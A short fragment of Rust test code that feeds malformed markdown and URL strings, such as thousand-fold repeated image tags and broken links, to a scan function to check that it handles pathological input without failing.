            "<img src=".repeat(1000),
            "[a]: ".repeat(1000),
            "https://".repeat(1000),
            "![](%%%%%)".into(),
            "![](https://[::1/)".into(),
        ] {
            let _ = scan(&t);
        }
    }
}
